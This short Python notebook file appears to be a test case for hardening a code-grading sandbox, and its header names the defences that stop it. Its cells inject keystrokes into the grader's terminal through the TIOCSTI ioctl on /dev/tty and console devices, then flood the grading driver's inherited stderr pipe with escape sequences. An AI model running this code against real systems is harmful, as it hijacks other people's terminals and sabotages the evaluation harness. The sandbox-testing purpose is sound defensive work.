# what: types commands into the terminal of whoever grades, and floods the driver's error output
# on: numbers
# status: graded
# stopped by: a session of its own without a terminal; the watchdog keeps 8 KB of standard error
# %% [total]
import fcntl
import os
import termios

for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty0", "/dev/ptmx"):
    try:
        handle = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    except OSError as error:
        print(path, error.strerror)
        continue
    try:
        # Into our own new terminal is no harm; the terminal of somebody else would obey.
        if path != "/dev/ptmx":
            fcntl.ioctl(handle, termios.TIOCSTI, b"#")
            print("PWNED: typed into", path)
    except OSError as error:
        print(path, error.strerror)
for number in range(3):
    print(number, os.ttyname(number) if os.isatty(number) else "no terminal")
# %% [scaled]
# ipykernel keeps the driver's own standard error among its handles: find it, and fill it.
written = 0
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if target.startswith("pipe:"):
        try:
            os.set_blocking(number, False)
            for _ in range(200):
                written += os.write(number, b"\x1b]0;owned\x07\x1b[2J" * 1000)
        except OSError:
            pass
print("wrote", written > 0)
# %% [classify]
pass
